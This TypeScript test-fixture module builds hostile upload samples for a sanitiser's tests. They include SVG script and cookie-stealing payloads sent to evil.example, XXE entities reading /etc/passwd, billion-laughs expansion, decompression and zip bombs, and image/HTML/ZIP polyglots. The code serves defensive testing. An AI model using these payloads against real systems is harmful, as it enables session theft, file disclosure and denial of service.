// Hostile files for hostileFiles.test.ts, generated in code so no binary fixture hides what
// a sample is; not imported by the app.

import { constants, crc32, deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';

const SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** A visible shape every SVG sample keeps, so a cleaned file is still a picture. */
const SHAPE = '<rect width="120" height="60" fill="#00a000"/>';

const svg = (body: string, attributes = '') =>
  `<svg ${SVG_NS} width="120" height="60"${attributes}>${SHAPE}${body}</svg>`;

/**
 * SVGs with one hostile part each: `hostile` are strings the stored file must not contain
 * (compared in lower case). Each is either refused or stored without them.
 */
export const HOSTILE_SVGS: { name: string; svg: string; hostile: string[] }[] = [
  {
    name: 'a script element',
    svg: svg('<script>fetch("https://evil.example/steal?c="+document.cookie)</script>'),
    hostile: ['<script', 'document.cookie', 'evil.example'],
  },
  {
    name: 'a script in CDATA with a type',
    svg: svg('<script type="application/ecmascript"><![CDATA[alert(1)]]></script>'),
    hostile: ['script', 'alert(1)'],
  },
  {
    name: 'event handlers',
    svg: svg(
      '<circle cx="10" cy="10" r="5" onclick="alert(1)" onmouseover="alert(2)"/><animate onbegin="alert(3)" attributeName="x" dur="1s"/>',
      ' onload="alert(0)"',
    ),
    hostile: ['onload', 'onclick', 'onmouseover', 'onbegin', 'alert('],
  },
  {
    name: 'javascript: links',
    svg: svg(
      '<a href="javascript:alert(1)"><circle cx="10" cy="10" r="5"/></a><a xlink:href=" JaVaScRiPt:alert(2)"><circle cx="20" cy="10" r="5"/></a><a href="jav&#x09;ascript:alert(3)"><circle cx="30" cy="10" r="5"/></a>',
    ),
    hostile: ['javascript', 'alert(', 'jav'],
  },
  {
    name: 'a link that sets javascript: by animation',
    svg: svg(
      '<a><set attributeName="href" to="javascript:alert(1)"/><circle cx="10" cy="10" r="5"/></a>',
    ),
    hostile: ['javascript', 'alert('],
  },
  {
    name: 'external references (http, file:, protocol-relative)',
    svg: svg(
      '<image href="http://evil.example/pixel.png" width="5" height="5"/><image xlink:href="file:///etc/passwd" width="5" height="5"/><use href="https://evil.example/sprite.svg#a"/><use xlink:href="//evil.example/b.svg#b"/><feImage href="file:///etc/hostname"/>',
    ),
    hostile: ['evil.example', 'file:', '/etc/passwd', '/etc/hostname'],
  },
  {
    name: 'foreignObject with HTML',
    svg: svg(
      '<foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/"></iframe><img src="x" onerror="alert(1)"/></body></foreignObject>',
    ),
    hostile: ['foreignobject', 'iframe', 'evil.example', 'onerror'],
  },
  {
    name: 'an external entity (XXE)',
    svg: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&xxe;</text>')}`,
    hostile: ['<!entity', '<!doctype', 'system', 'file:', '/etc/passwd', 'root:'],
  },
  {
    name: 'entity expansion (a billion laughs)',
    svg: `<?xml version="1.0"?><!DOCTYPE svg [${billionLaughsEntities()}]>${svg('<text y="20">&lol9;</text>')}`,
    hostile: ['<!entity', '<!doctype', 'lollol'],
  },
  {
    name: 'CSS with escapes, expression() and url() to outside',
    svg: svg(
      `<style>rect { fill: url(https://evil.example/a.svg#p) } a { background: \\6a avascript:alert(1) } circle { width: expression(alert(2)) } @import "https://evil.example/x.css"; text { fill: u\\72l(//evil.example/b) }</style><circle cx="10" cy="10" r="5" style="fill: url('http://evil.example/c'); behavior: url(x.htc); width: e\\78pression(alert(3))"/>`,
    ),
    hostile: [
      'evil.example',
      'javascript',
      '\\6a',
      'expression',
      'e\\78',
      'u\\72l',
      '@import',
      'behavior',
      'x.htc',
    ],
  },
];

/** The nine nested entity declarations of a "billion laughs" document, 10^9 lols in all. */
export function billionLaughsEntities(): string {
  const declarations = ['<!ENTITY lol0 "lol">'];
  for (let level = 1; level <= 9; level++) {
    declarations.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
  }
  return declarations.join('');
}

function pngChunk(type: string, data: Buffer): Buffer {
  const out = Buffer.alloc(12 + data.length);
  out.writeUInt32BE(data.length, 0);
  out.write(type, 4, 'latin1');
  data.copy(out, 8);
  out.writeUInt32BE(crc32(out.subarray(4, 8 + data.length)), 8 + data.length);
  return out;
}

/**
 * A real decompression bomb: a valid PNG of `size` x `size` white pixels (1-bit grey), whose
 * compressed rows are a few hundred kilobytes and decode to gigabytes at 8 bits a channel.
 * The rows are deflated from one repeated row, so making it costs the test little memory.
 */
export function pngBomb(size = 30_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // grey
  const row = Buffer.alloc(1 + Math.ceil(size / 8), 0xff);
  row[0] = 0; // filter: none
  // One row repeated: deflate sees a run and stores it in a few bytes a row.
  const rows = Buffer.alloc(row.length * size);
  for (let r = 0; r < size; r++) row.copy(rows, r * row.length);
  const compressed = deflateSync(rows, { level: constants.Z_BEST_COMPRESSION });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', compressed),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A small one-colour JPEG whose frame header is rewritten to say `width` x `height`. */
export async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
  const jpeg = await sharp({
    create: { width: 16, height: 16, channels: 3, background: '#808080' },
  })
    .jpeg()
    .toBuffer();
  for (let at = 2; at + 9 < jpeg.length; ) {
    const marker = jpeg[at + 1] ?? 0;
    const length = jpeg.readUInt16BE(at + 2);
    if (marker >= 0xc0 && marker <= 0xc2) {
      jpeg.writeUInt16BE(height, at + 5);
      jpeg.writeUInt16BE(width, at + 7);
      return jpeg;
    }
    at += 2 + length;
  }
  throw new Error('no frame header in the JPEG sharp made');
}

/** HTML with a script, as a polyglot's second reading. */
export const POLYGLOT_HTML = '<html><body><script>alert("polyglot")</script></body></html>';

/** A ZIP archive (a "JAR" or an Office file) with one text entry. */
export function smallZip(): Uint8Array {
  return zipSync({ 'payload.txt': strToU8('hidden payload') });
}

const ZIP_SIGNATURE = Buffer.from([0x50, 0x4b, 0x03, 0x04]);

/** Whether bytes carry a ZIP local file header anywhere. */
export const containsZip = (bytes: Uint8Array) => Buffer.from(bytes).includes(ZIP_SIGNATURE);

/**
 * A PNG that is also an HTML page and a ZIP archive: the HTML in a text chunk, the archive
 * appended after IEND (ZIP readers look for it from the end).
 */
export async function pngPolyglot(): Promise<Buffer> {
  const png = await sharp({
    create: { width: 32, height: 32, channels: 3, background: '#336699' },
  })
    .png()
    .toBuffer();
  const iend = png.length - 12;
  const text = pngChunk('tEXt', Buffer.from(`Comment\0${POLYGLOT_HTML}`, 'latin1'));
  return Buffer.concat([png.subarray(0, iend), text, png.subarray(iend), smallZip()]);
}

/** A JPEG with the HTML in a comment segment and a ZIP appended after its end. */
export async function jpegPolyglot(): Promise<Buffer> {
  const jpeg = await sharp({
    create: { width: 32, height: 32, channels: 3, background: '#996633' },
  })
    .jpeg()
    .toBuffer();
  const comment = Buffer.from(POLYGLOT_HTML, 'latin1');
  const segment = Buffer.alloc(4);
  segment.writeUInt8(0xff, 0);
  segment.writeUInt8(0xfe, 1);
  segment.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, comment, jpeg.subarray(2), smallZip()]);
}

/** The start of a Windows executable. */
export function windowsExecutable(): Uint8Array {
  const bytes = new Uint8Array(512);
  bytes.set([0x4d, 0x5a, 0x90, 0x00, 0x03]);
  bytes.set(strToU8('This program cannot be run in DOS mode.'), 78);
  return bytes;
}

const SPREADSHEET_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const RELATIONSHIPS_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE_RELATIONSHIPS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';

/** A minimal XLSX with a worksheet and a shared-strings part, each given as its whole XML. */
export function xlsxOfParts(sheetXml: string, sharedStringsXml?: string): Uint8Array {
  const main = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  return zipSync(
    {
      '[Content_Types].xml': strToU8(
        `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${main}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${main}.worksheet+xml"/>${sharedStringsXml ? `<Override PartName="/xl/sharedStrings.xml" ContentType="${main}.sharedStrings+xml"/>` : ''}</Types>`,
      ),
      '_rels/.rels': strToU8(
        `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PACKAGE_RELATIONSHIPS_NS}"><Relationship Id="rId1" Type="${RELATIONSHIPS_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      ),
      'xl/workbook.xml': strToU8(
        `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${SPREADSHEET_NS}" xmlns:r="${RELATIONSHIPS_NS}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      ),
      'xl/_rels/workbook.xml.rels': strToU8(
        `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PACKAGE_RELATIONSHIPS_NS}"><Relationship Id="rId1" Type="${RELATIONSHIPS_NS}/worksheet" Target="worksheets/sheet1.xml"/>${sharedStringsXml ? `<Relationship Id="rId2" Type="${RELATIONSHIPS_NS}/sharedStrings" Target="sharedStrings.xml"/>` : ''}</Relationships>`,
      ),
      'xl/worksheets/sheet1.xml': strToU8(sheetXml),
      ...(sharedStringsXml ? { 'xl/sharedStrings.xml': strToU8(sharedStringsXml) } : {}),
    },
    { level: 9 },
  );
}

const XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';

const worksheet = (rows: string, doctype = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>${doctype}<worksheet xmlns="${SPREADSHEET_NS}"><sheetData>${rows}</sheetData></worksheet>`;

const column = (index: number) => String.fromCharCode(65 + index);

const inlineRow = (row: number, cells: string[]) =>
  `<row r="${row}">${cells.map((text, c) => `<c r="${column(c)}${row}" t="inlineStr"><is><t>${text}</t></is></c>`).join('')}</row>`;

const sharedRow = (row: number, first: number, count: number) =>
  `<row r="${row}">${Array.from({ length: count }, (_, c) => `<c r="${column(c)}${row}" t="s"><v>${first + c}</v></c>`).join('')}</row>`;

const sharedStrings = (strings: string[], doctype: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>${doctype}<sst xmlns="${SPREADSHEET_NS}" count="${strings.length}" uniqueCount="${strings.length}">${strings.map((text) => `<si><t>${text}</t></si>`).join('')}</sst>`;

/**
 * Workbooks of a header row and one row of `values` whose last value is an entity
 * reference declared in the XML: an external entity (in the worksheet, in the shared strings)
 * that a resolving reader would fill with /etc/passwd, and a billion laughs. Without the
 * entity each would be an ordinary file the import takes.
 */
export function xlsxWithEntities(
  headers: string[],
  values: string[],
): { name: string; bytes: Uint8Array }[] {
  const xxe = [...values, '&xxe;'];
  const laughs = [...values, '&lol9;'];
  return [
    {
      name: 'an external entity in the worksheet',
      bytes: xlsxOfParts(worksheet(inlineRow(1, headers) + inlineRow(2, xxe), XXE)),
    },
    {
      name: 'an external entity in the shared strings',
      bytes: xlsxOfParts(
        worksheet(sharedRow(1, 0, headers.length) + sharedRow(2, headers.length, xxe.length)),
        sharedStrings([...headers, ...xxe], XXE.replace('x [', 'sst [')),
      ),
    },
    {
      name: 'entity expansion in the shared strings',
      bytes: xlsxOfParts(
        worksheet(sharedRow(1, 0, headers.length) + sharedRow(2, headers.length, laughs.length)),
        sharedStrings([...headers, ...laughs], `<!DOCTYPE sst [${billionLaughsEntities()}]>`),
      ),
    },
  ];
}

/**
 * A zip bomb: a workbook of a few hundred kilobytes whose one worksheet unpacks to
 * `megabytes` MB (one long run of the same cells, which deflate squeezes ~1000:1).
 */
export function xlsxZipBomb(megabytes = 200): Uint8Array {
  const cell =
    '<c t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></is></c>';
  const row = `<row>${cell.repeat(100)}</row>`;
  const rows = row.repeat(Math.ceil((megabytes * 1024 * 1024) / row.length));
  return xlsxOfParts(worksheet(rows));
}

const XLIFF_HEAD =
  '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="cs"><file id="f1">';

/** An XLIFF whose DOCTYPE nests entities to a billion "lol"s in one target. */
export function xliffBillionLaughs(): string {
  return `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE xliff [${billionLaughsEntities()}]>${XLIFF_HEAD}<unit id="Headline"><segment><source>x</source><target>&lol9;</target></segment></unit></file></xliff>`;
}

/** An XLIFF whose target reads /etc/passwd through an external entity. */
export function xliffExternalEntity(): string {
  return `<?xml version="1.0" encoding="UTF-8"?>${XXE.replace('x [', 'xliff [')}${XLIFF_HEAD}<unit id="Headline"><segment><source>x</source><target>&xxe;</target></segment></unit></file></xliff>`;
}

/** An XLIFF nested `depth` elements deep (unknown elements, not codes: any element counts). */
export function xliffDeeplyNested(depth = 100_000): string {
  return `<?xml version="1.0" encoding="UTF-8"?>${XLIFF_HEAD}<unit id="Headline"><segment><source>x</source><target>${'<pc id="1">'.repeat(depth)}x${'</pc>'.repeat(depth)}</target></segment></unit></file></xliff>`;
}
